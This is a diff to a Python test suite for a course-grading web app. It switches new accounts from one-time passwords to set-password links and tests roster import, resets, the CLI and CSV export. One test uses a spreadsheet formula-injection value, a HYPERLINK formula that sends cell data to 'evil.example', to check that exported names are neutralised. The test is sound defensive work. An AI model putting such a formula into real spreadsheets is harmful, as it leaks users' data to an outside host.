@@ -42,10 +42,22 @@ def upload(client, token, data: bytes, filename="roster.csv", lang="en"):
         "csrf_token": token, "roster": (io.BytesIO(data), filename)})
 
 
-def passwords(page: str) -> dict[str, str]:
-    """username → password, from the page that shows new passwords once."""
-    return dict(re.findall(r'<tr><td>([^<]+)</td>.*?<code class="code password">([^<]+)</code>',
+def links(page: str) -> dict[str, str]:
+    """username → set-password link, from a page that shows them."""
+    return dict(re.findall(r'<tr><td>([^<]+)</td>.*?<code class="code link">([^<]+)</code>',
                            page, re.S))
+
+
+def set_password(app, link: str, password: str = "chosen-password"):
+    """Follow a set-password link as its owner does: the form, then the new password twice."""
+    client = app.test_client()
+    token = CSRF_TOKEN.search(client.get(link).text).group(1)
+    return client.post(link, data={"new": password, "repeat": password, "csrf_token": token})
+
+
+def csv_download(page: str) -> str:
+    return unquote(re.search(r'href="data:text/csv;charset=utf-8,([^"]+)" download', page)
+                   .group(1))
 
 
 def listed(page: str) -> list[str]:
@@ -107,28 +119,51 @@ def test_a_roster_is_previewed_then_imported_in_one_go(staffed):
     text = html.unescape(re.search(r'name="roster" value="([^"]*)"', preview.text, re.S).group(1))
     done = client.post("/staff/roster/import", data={"csrf_token": token, "roster": text})
     assert done.status_code == 200 and "2 accounts added" in done.text
-    assert done.headers["Cache-Control"] == "no-store"  # the passwords are shown this once
-    shown = passwords(done.text)
+    assert done.headers["Cache-Control"] == "no-store"  # the links are as good as passwords
+    shown = links(done.text)
     assert set(shown) == {"carl", "dani"}
-    sheet = unquote(re.search(r'href="data:text/csv;charset=utf-8,([^"]+)" download', done.text)
-                    .group(1))
-    assert sheet.startswith("\ufeffusername,name,email,password\r\n")
+    assert all(re.fullmatch(r"http://localhost/account/set-password/[\w.-]+", link)
+               for link in shown.values())
+    assert "Mail is not set up" in done.text  # so the instructor hands them out
+    sheet = csv_download(done.text)
+    assert sheet.startswith("\ufeffusername,name,email,link\r\n")
     assert f"carl,Carl Núñez,c@uni.es,{shown['carl']}" in sheet
     accounts = users(staffed)
     assert accounts["carl"].role == "student" and accounts["ana"].name == "Ana García"
-    logged_in(staffed, "carl", shown["carl"])
+    chosen = set_password(staffed, shown["carl"])
+    assert chosen.status_code == 303
+    logged_in(staffed, "carl", "chosen-password")
     again = client.post("/staff/roster/import", data={"csrf_token": token, "roster": text},
                         follow_redirects=True)
-    assert "exists already: nothing to add" in again.text and not passwords(again.text)
+    assert "exists already: nothing to add" in again.text and not links(again.text)
 
 
-def test_wrong_lines_are_listed_and_nothing_is_imported(staffed):
+def test_a_course_roster_is_imported_at_once_without_hashing_a_password(staffed, monkeypatch):
+    """200 rows took 19.5 s (a slow hash of a generated password a row) and 2000 outlasted
+    gunicorn's 30 s: a new account holds no password until its owner sets one."""
+    from server import users as accounts
+    hashed = []
+    monkeypatch.setattr(accounts, "generate_password_hash",
+                        lambda *args: hashed.append(1) or "never-used")
+    client, token = logged_in(staffed, "root")
+    rows = "".join(f"s{n:04},Student {n},s{n}@uni.es,student\n" for n in range(2000))
+    done = client.post("/staff/roster/import", data={"csrf_token": token,
+                                                     "roster": HEADER + rows})
+    assert done.status_code == 200 and "2000 accounts added" in done.text
+    assert not hashed and len(links(done.text)) == 2000
+    assert len(users(staffed)) == 2004
+
+
+def test_the_valid_rows_are_imported_and_the_wrong_lines_listed(staffed):
+    """A roster with one wrong line was refused whole; now its valid rows can be imported while
+    the wrong lines are listed, with their line numbers and problems, before and after."""
     client, token = logged_in(staffed, "prof")
     text = (HEADER + "carl,Carl,c@uni.es,student\n"
             "dani,Dani,not-an-email,student\n"
             "carl,Carl again,c2@uni.es,student\n"
             "eva,Eva,e@uni.es,admin\n"
-            "fede,Fede,f@uni.es\n")
+            "fede,Fede,f@uni.es\n"
+            "gil,Gil,g@uni.es,student\n")
     preview = upload(client, token, text.encode())
     errors = wrong_lines(preview.text)
     assert set(errors) == {"3", "4", "5", "6"}
@@ -136,12 +171,18 @@ def test_wrong_lines_are_listed_and_nothing_is_imported(staffed):
     assert "appears twice (first on line 2)" in errors["4"]
     assert "only an admin may add instructors and admins" in errors["5"]  # prof is an instructor
     assert "expected 4 columns" in errors["6"]
-    assert "4 wrong lines" in preview.text and "/staff/roster/import" not in preview.text
-    forced = client.post("/staff/roster/import", data={"csrf_token": token, "roster": text})
-    assert forced.status_code == 400 and "nothing was imported" in forced.text
-    assert "carl" not in users(staffed)
+    assert "4 wrong lines" in preview.text and "Import the 2 valid rows" in preview.text
+    done = client.post("/staff/roster/import", data={"csrf_token": token, "roster": text})
+    assert done.status_code == 200 and "2 accounts added" in done.text
+    assert set(links(done.text)) == {"carl", "gil"}
+    assert "4 wrong lines were left out" in done.text
+    assert set(wrong_lines(done.text)) == {"3", "4", "5", "6"}
+    assert {"carl", "gil"} <= set(users(staffed)) and "dani" not in users(staffed)
     admin, admin_token = logged_in(staffed, "root")  # an admin may add admins
     assert set(wrong_lines(upload(admin, admin_token, text.encode()).text)) == {"3", "4", "6"}
+    only_wrong = HEADER + "hugo,Hugo,nope,student\n"
+    preview = upload(client, token, only_wrong.encode())
+    assert "/staff/roster/import" not in preview.text  # nothing to import
 
 
 @pytest.mark.parametrize("data, filename, message", [
@@ -195,7 +236,8 @@ def test_adding_an_account(staffed):
         "csrf_token": token, "username": "carl", "name": "Carl", "email": "c@uni.es",
         "role": "student"})
     assert added.status_code == 200 and added.headers["Cache-Control"] == "no-store"
-    logged_in(staffed, "carl", passwords(added.text)["carl"])
+    assert set_password(staffed, links(added.text)["carl"]).status_code == 303
+    logged_in(staffed, "carl", "chosen-password")
     admin = {"csrf_token": token, "username": "boss", "name": "Boss", "email": "x@uni.es",
              "role": "admin"}
     refused = client.post("/staff/roster/add", data=admin)
@@ -221,13 +263,14 @@ def test_a_password_reset_ends_the_users_sessions(staffed):
     assert confirm.status_code == 200 and "Every session of theirs ends" in confirm.text
     reset = client.post("/staff/roster/bea/password", data={"csrf_token": token})
     assert reset.status_code == 200 and reset.headers["Cache-Control"] == "no-store"
-    new = passwords(reset.text)["bea"]
+    link = links(reset.text)["bea"]
     assert bea.get("/").headers["Location"].startswith("/login")  # her session has ended
     refused = staffed.test_client()
     login_token = CSRF_TOKEN.search(refused.get("/login").text).group(1)
     assert refused.post("/login", data={"username": "bea", "password": "long-password",
                                         "csrf_token": login_token}).status_code == 401
-    logged_in(staffed, "bea", new)
+    assert set_password(staffed, link).status_code == 303
+    logged_in(staffed, "bea", "chosen-password")
     # an instructor resets students only; an admin anyone; nobody their own from here
     assert client.post("/staff/roster/root/password", data={"csrf_token": token}).status_code == 403
     assert client.get("/staff/roster/nobody/password").status_code == 404
@@ -283,6 +326,11 @@ def test_the_cli_reads_rosters_as_the_web_does(tmp_path, monkeypatch):
     monkeypatch.setenv("HPCGRADE_DATABASE_URL", f"sqlite:///{tmp_path / 'cli.sqlite'}")
     runner = CliRunner()
     assert runner.invoke(main, ["db", "upgrade"]).exit_code == 0
+    good = tmp_path / "good.csv"
+    good.write_text(HEADER + "ana,Ana,a@uni.es,student\nbea,Bea,b@uni.es,student\n")
+    no_key = runner.invoke(main, ["users", "import", str(good)])
+    assert no_key.exit_code == 1 and "set HPCGRADE_SECRET_KEY" in no_key.output
+    monkeypatch.setenv("HPCGRADE_SECRET_KEY", "test")
     latin = tmp_path / "latin.csv"
     latin.write_bytes((HEADER + "ana,Ana García,a@uni.es,student\n").encode("latin-1"))
     refused = runner.invoke(main, ["users", "import", str(latin)])
@@ -292,11 +340,18 @@ def test_the_cli_reads_rosters_as_the_web_does(tmp_path, monkeypatch):
     every = runner.invoke(main, ["users", "import", str(wrong)]).output
     assert "line 2: user ana: “nope” is not an email address" in every
     assert "line 3: ana appears twice" in every
-    good = tmp_path / "good.csv"
-    good.write_text(HEADER + "ana,Ana,a@uni.es,student\n")
+    monkeypatch.setenv("HPCGRADE_PUBLIC_URL", "https://grader.uni.es/hpc/")
     imported = runner.invoke(main, ["users", "import", str(good)])
-    assert imported.exit_code == 0
-    assert re.fullmatch(r"username,password\nana,[a-zA-Z2-9]{12}\n", imported.output)
+    assert imported.exit_code == 0, imported.output
+    assert re.fullmatch(r"username,link\n(ana|bea),https://grader\.uni\.es/hpc/account/"
+                        r"set-password/[\w.-]+\n(?!\1)(ana|bea),\S+\n", imported.output)
+    monkeypatch.delenv("HPCGRADE_PUBLIC_URL")
+    paths = tmp_path / "more.csv"
+    paths.write_text(HEADER + "carl,Carl,c@uni.es,student\n")
+    paths_only = runner.invoke(main, ["users", "import", str(paths)])
+    assert paths_only.exit_code == 0
+    assert re.search(r"^carl,/account/set-password/[\w.-]+$", paths_only.stdout, re.M)
+    assert "HPCGRADE_PUBLIC_URL is not set" in paths_only.stderr
 
 
 
@@ -329,7 +384,7 @@ def test_a_name_or_email_too_long_or_with_a_control_character_is_a_wrong_line(st
     assert added.status_code == 200 and users(staffed)["hana"].name == "H" * 200
 
 
-def test_the_passwords_csv_runs_no_formula_and_suits_a_spanish_excel(staffed):
+def test_the_links_csv_runs_no_formula_and_suits_a_spanish_excel(staffed):
     """Names come from an uploaded file: one that a spreadsheet would run is written as text."""
     client, token = logged_in(staffed, "prof")
     hostile = '=HYPERLINK("http://evil.example/?"&D2,"ok")'
@@ -338,9 +393,8 @@ def test_the_passwords_csv_runs_no_formula_and_suits_a_spanish_excel(staffed):
     roster = html.unescape(re.search(r'name="roster" value="([^"]*)"', preview.text).group(1))
     done = client.post("/staff/roster/import?lang=es", data={"csrf_token": token,
                                                              "roster": roster})
-    sheet = unquote(re.search(r'href="data:text/csv;charset=utf-8,([^"]+)" download', done.text)
-                    .group(1))
-    assert sheet.startswith("\ufeffusername;name;email;password\r\n")  # Excel set to Spanish
+    sheet = csv_download(done.text)
+    assert sheet.startswith("\ufeffusername;name;email;link\r\n")  # Excel set to Spanish
     row = next(csv.reader(io.StringIO(sheet.splitlines()[1]), delimiter=";"))
     assert row[:3] == ["carl", "'" + hostile, "c@uni.es"]
     assert users(staffed)["carl"].name == hostile  # stored as it was given
@@ -379,3 +433,26 @@ def test_a_password_reset_revokes_the_students_api_tokens(staffed):
     assert api.get("/api/v1/exercises", headers=tokens["ana"]).status_code == 200
     assert "1 API token of bea was revoked." in reset.text
     assert "their API tokens are revoked" in client.get("/staff/roster/bea/password").text
+
+
+def test_the_links_of_accounts_waiting_for_a_password_are_shown_again(staffed):
+    """A link handed out and lost: staff show it again while its account has no password; an
+    instructor sees the students' links only."""
+    client, token = logged_in(staffed, "root")
+    client.post("/staff/roster/import", data={"csrf_token": token, "roster": (
+        HEADER + "carl,Carl,c@uni.es,student\ndani,Dani,d@uni.es,student\n"
+        "ines,Inés,i@uni.es,instructor\n")})
+    prof, _ = logged_in(staffed, "prof")
+    roster = prof.get("/staff/roster/").text
+    assert "2 accounts are waiting for a password" in roster
+    assert 'href="/staff/roster/waiting"' in roster
+    waiting = prof.get("/staff/roster/waiting")
+    assert waiting.status_code == 200 and waiting.headers["Cache-Control"] == "no-store"
+    shown = links(waiting.text)
+    assert set(shown) == {"carl", "dani"}  # not the instructor's
+    assert set(links(client.get("/staff/roster/waiting").text)) == {"carl", "dani", "ines"}
+    set_password(staffed, shown["carl"])
+    assert set(links(prof.get("/staff/roster/waiting").text)) == {"dani"}
+    assert "1 account is waiting for a password" in prof.get("/staff/roster/").text
+    student, _ = logged_in(staffed, "ana")
+    assert student.get("/staff/roster/waiting").status_code == 403
